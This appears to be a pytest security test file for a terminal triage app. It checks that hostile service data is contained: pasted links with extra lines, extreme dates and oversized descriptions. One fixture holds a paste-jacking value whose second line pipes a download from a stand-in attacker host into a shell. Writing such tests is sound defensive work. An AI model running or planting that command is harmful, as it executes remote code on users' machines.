"""What leaves the app because of the service's data: the clipboard, the browser, links.

The real app against the simulator over loopback; the hostile values are put into the
simulator's state, as a hostile service would send them.
"""

from __future__ import annotations

import asyncio

import pytest
from textual.pilot import Pilot

from tests.security.test_hostile_input import frame_bytes, link_targets
from tests.ui.harness import FIXED_EPOCH, make_app, ready, wait_for
from triage_tui.sim import SimServer
from triage_tui.ui.app import TriageApp

PASTE_JACK = "https://example.com/a\ncurl evil.example|sh"
REFUSED = "not copied: the link is not a plain http(s) URL"


async def _select_new(app: TriageApp, pilot: Pilot, sim: SimServer, **fields: object) -> int:
    """A mention with `fields` arrives by the stream; the cursor goes to it."""
    added = await asyncio.to_thread(
        sim.state.add_mention, sim.alert_ids[0], folder="inbox", trashed=False, **fields
    )
    new_id = int(added["id"])
    await wait_for(pilot, lambda: app.feed.shows(new_id))
    await wait_for(pilot, lambda: app.feed.jump_to_id(new_id))
    await pilot.pause(0.05)
    return new_id


def _status(app: TriageApp) -> str:
    return str(app.status.render())


async def test_a_url_with_a_second_line_is_never_copied_opened_or_linked(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SSH_CONNECTION", "10.0.0.1 5000 10.0.0.2 22")  # no local browser
    with SimServer(seed=11, mentions_per_alert=2, mark_interval=0.2, epoch=FIXED_EPOCH) as sim:
        app = make_app(sim)
        async with app.run_test(size=(120, 40)) as pilot:
            await ready(pilot, app)
            await _select_new(app, pilot, sim, original_url=PASTE_JACK, clickable_url=PASTE_JACK)
            assert not any("evil" in t for t in link_targets(frame_bytes(app)))
            await pilot.press("y")
            assert app.clipboard == ""
            assert REFUSED in _status(app)
            await pilot.press("o")
            assert app.clipboard == ""
            assert "not opened: the link is not a plain http(s) URL" in _status(app)
            # A plain one still goes to the clipboard, by both keys.
            good = "https://example.com/post/1"
            await _select_new(app, pilot, sim, original_url=good, clickable_url=good)
            await pilot.press("y")
            assert app.clipboard == good
            app.copy_to_clipboard("")
            await pilot.press("o")
            assert app.clipboard == good


EXTREME_DATES = [
    "0001-01-01T00:00:00+23:59",  # before year 1 in UTC: "year 0 is out of range"
    "0001-01-01T00:00:00Z",
    "1969-12-31T23:59:59Z",
    "9999-12-31T23:59:59-23:59",  # after year 9999 in UTC
    "9999-01-01T00:00:00Z",
    "2030-01-01T00:00:00Z",  # years ahead of the clock
]


def _detail(app: TriageApp) -> str:
    return str(app.detail.query_one("#detail-body").render())


def _cursor_line(app: TriageApp) -> str:
    """The feed's line under the cursor, as drawn."""
    feed = app.feed
    return feed.render_line(feed.cursor_index - round(feed.scroll_y)).text


async def test_valid_but_extreme_dates_show_as_unknown_everywhere() -> None:
    with SimServer(seed=12, mentions_per_alert=2, mark_interval=0.2, epoch=FIXED_EPOCH) as sim:
        app = make_app(sim)
        async with app.run_test(size=(160, 40)) as pilot:
            await ready(pilot, app)
            for index, date in enumerate(EXTREME_DATES):
                title = f"extreme date number {index}"
                await _select_new(app, pilot, sim, title=title, published_at=date, created_at=date)
                assert app.is_running
                detail = _detail(app)
                assert "Published unknown" in detail, date
                assert "Found     unknown" in detail, date
                line = _cursor_line(app)
                assert title in line and line.rstrip().endswith(" ?"), (date, line)


async def test_a_two_megabyte_description_is_cut_with_a_marker() -> None:
    size = 2_000_000
    # A keyword hit inside the cut, one across it and one far beyond: only the first
    # can be drawn; the others are dropped without harm.
    hits = [(10, 5), (19_998, 10), (1_500_000, 5)]
    offsets = {
        "description": [
            {"char_offset": s, "char_length": n, "utf16_offset": s, "utf16_length": n}
            for s, n in hits
        ]
    }
    with SimServer(seed=13, mentions_per_alert=2, mark_interval=0.2, epoch=FIXED_EPOCH) as sim:
        app = make_app(sim)
        async with app.run_test(size=(120, 40)) as pilot:
            await ready(pilot, app)
            await _select_new(
                app,
                pilot,
                sim,
                title="huge",
                description="word " * (size // 5),
                description_medium=None,
                description_short=None,
                offsets=offsets,
            )
            await wait_for(pilot, lambda: "huge" in _detail(app))
            detail = _detail(app)
            assert "… 1,980,000 more characters: press o to open the original" in detail
            assert len(detail) < 25_000
            assert app.is_running
